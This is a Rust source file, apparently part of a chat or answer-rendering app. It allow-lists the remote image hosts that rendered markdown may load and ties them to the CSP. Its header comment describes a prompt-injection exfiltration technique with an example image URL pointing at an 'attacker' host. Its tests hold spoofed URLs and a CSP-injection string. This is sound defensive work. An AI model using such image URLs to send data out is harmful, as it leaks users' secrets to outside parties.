//! Which images in rendered markdown the browser may load. A remote image is fetched without a
//! click, so a prompt-injected answer could carry data out in its URL
//! (`![](https://attacker/?q=<secret>)`). By default no remote image loads: it is shown as a
//! link. The administrator may allow-list hosts (`LOQUAT_IMAGE_HOSTS`); the CSP's `img-src`
//! lists exactly those hosts, so the browser enforces the same rule.

use std::fmt;

/// The image hosts the administrator allowed: exact names and `*.example.com` patterns
/// (any subdomain, not the domain itself, as in CSP). Empty: no remote images.
#[derive(Debug, Clone, Default, PartialEq, Eq, Hash)]
pub struct ImageHosts {
    patterns: Vec<HostPattern>,
}

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
enum HostPattern {
    Exact(String),
    /// `*.example.com`, stored as `.example.com`.
    Subdomains(String),
}

/// An entry of `LOQUAT_IMAGE_HOSTS` that is not a host name or `*.` pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InvalidImageHost(pub String);

impl fmt::Display for InvalidImageHost {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "LOQUAT_IMAGE_HOSTS: {:?} is not a host name or *.domain pattern", self.0)
    }
}

impl std::error::Error for InvalidImageHost {}

impl ImageHosts {
    /// No remote images.
    pub fn none() -> Self {
        Self::default()
    }

    /// Parses host names (`img.example.com`) and patterns (`*.example.com`), case-insensitive.
    pub fn parse<S: AsRef<str>>(entries: &[S]) -> Result<Self, InvalidImageHost> {
        let mut patterns = Vec::new();
        for entry in entries {
            let entry = entry.as_ref().trim();
            if entry.is_empty() {
                continue;
            }
            let lower = entry.to_ascii_lowercase();
            let pattern = match lower.strip_prefix("*.") {
                Some(domain) if is_host_name(domain) => HostPattern::Subdomains(format!(".{domain}")),
                None if is_host_name(&lower) => HostPattern::Exact(lower),
                _ => return Err(InvalidImageHost(entry.to_owned())),
            };
            if !patterns.contains(&pattern) {
                patterns.push(pattern);
            }
        }
        Ok(Self { patterns })
    }

    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }

    /// Whether an image at `url` may load: `https://` on an allowed host, with no user info,
    /// port or unusual character in the authority (what the browser fetches is what was checked).
    pub fn allows(&self, url: &str) -> bool {
        if self.patterns.is_empty() {
            return false;
        }
        let Some(rest) = url.get(..8).filter(|scheme| scheme.eq_ignore_ascii_case("https://")).map(|_| &url[8..])
        else {
            return false;
        };
        let host = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
        if !is_host_name(host) {
            return false;
        }
        let host = host.to_ascii_lowercase();
        self.patterns.iter().any(|pattern| match pattern {
            HostPattern::Exact(name) => host == *name,
            HostPattern::Subdomains(suffix) => host.len() > suffix.len() && host.ends_with(suffix.as_str()),
        })
    }

    /// The CSP sources for these hosts: `https://img.example.com https://*.example.com`.
    pub fn csp_sources(&self) -> String {
        let sources: Vec<String> = self
            .patterns
            .iter()
            .map(|pattern| match pattern {
                HostPattern::Exact(name) => format!("https://{name}"),
                HostPattern::Subdomains(suffix) => format!("https://*{suffix}"),
            })
            .collect();
        sources.join(" ")
    }

    /// A short fingerprint, for cache keys of rendered HTML.
    pub(crate) fn fingerprint(&self) -> u32 {
        let joined = self.csp_sources();
        super::fnv1a(&joined)
    }
}

/// Dot-separated labels of ASCII letters, digits and inner hyphens (also safe inside a CSP
/// header and an attribute).
fn is_host_name(host: &str) -> bool {
    !host.is_empty()
        && host.len() <= 253
        && host.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(list: &[&str]) -> ImageHosts {
        ImageHosts::parse(list).expect("valid hosts")
    }

    #[test]
    fn nothing_is_allowed_by_default() {
        assert!(!ImageHosts::none().allows("https://example.com/a.png"));
        assert_eq!(ImageHosts::none().csp_sources(), "");
    }

    #[test]
    fn exact_and_wildcard_hosts() {
        let policy = hosts(&["img.example.com", " *.CDN.example.org ", ""]);
        assert!(policy.allows("https://img.example.com/a.png"));
        assert!(policy.allows("HTTPS://IMG.example.com?x=1"));
        assert!(policy.allows("https://a.cdn.example.org/x"));
        assert!(policy.allows("https://a.b.cdn.example.org/x"));
        assert!(!policy.allows("https://cdn.example.org/x"), "a wildcard does not match the domain itself");
        assert!(!policy.allows("https://evilcdn.example.org/x"));
        assert!(!policy.allows("https://example.com/x"));
        assert!(!policy.allows("http://img.example.com/a.png"), "https only");
        assert_eq!(policy.csp_sources(), "https://img.example.com https://*.cdn.example.org");
    }

    #[test]
    fn tricky_authorities_are_refused() {
        let policy = hosts(&["img.example.com"]);
        for url in [
            "https://img.example.com@evil.example/x",
            "https://img.example.com:8443/x",
            "https://img.example.com\\@evil.example/x",
            "https://img.example.com%2F@evil.example/",
            "https://img.example.com./x",
            "https:/img.example.com/x",
            "//img.example.com/x",
            "https://img.example.com\t/x",
        ] {
            assert!(!policy.allows(url), "{url}");
        }
    }

    #[test]
    fn bad_entries_are_rejected() {
        for entry in ["https://x.com", "x.com/path", "*.", "*", "a..b", "x.com;script-src", "ex ample.com", "*.*.x.com"]
        {
            assert!(ImageHosts::parse(&[entry]).is_err(), "{entry}");
        }
        assert_eq!(hosts(&["A.com", "a.com"]).csp_sources(), "https://a.com");
    }
}
